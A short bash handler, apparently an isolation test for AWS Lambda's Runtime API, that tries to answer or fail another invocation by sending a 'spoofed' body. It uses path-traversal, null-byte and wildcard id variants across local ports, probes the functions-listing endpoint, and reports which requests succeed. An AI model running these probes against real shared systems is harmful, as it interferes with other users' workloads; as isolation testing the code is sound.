# Speaks for somebody else at the Runtime API: answers another invocation, asks for its events, ends it.
handler() {
    local other ports at id end status
    other=$(sed 's/.*"other_id":"\([^"]*\)".*/\1/' <<<"$1")
    ports=$(sed 's/.*"ports":\[\([^]]*\)\].*/\1/; s/,/ /g' <<<"$1")
    for at in "$AWS_LAMBDA_RUNTIME_API" $(printf '127.0.0.1:%s ' $ports); do
        for id in "$other" "../$other" "$other%00" "*"; do
            for end in response error; do
                status=$(curl --noproxy '*' -s -g --path-as-is -m 0.5 -o /dev/null -w '%{http_code}' -d '"spoofed"' "http://$at/2018-06-01/runtime/invocation/$id/$end")
                case "$status" in 2*) echo "\"$at $id $end: $status\"" ;; esac
            done
        done
        status=$(curl --noproxy '*' -s -m 0.5 -o /dev/null -w '%{http_code}' "http://$at/2015-03-31/functions")
        case "$status" in 2*) echo "\"$at: functions\"" ;; esac
    done | paste -sd, | sed 's/^/[/; s/$/]/' | grep . || echo '[]'
}
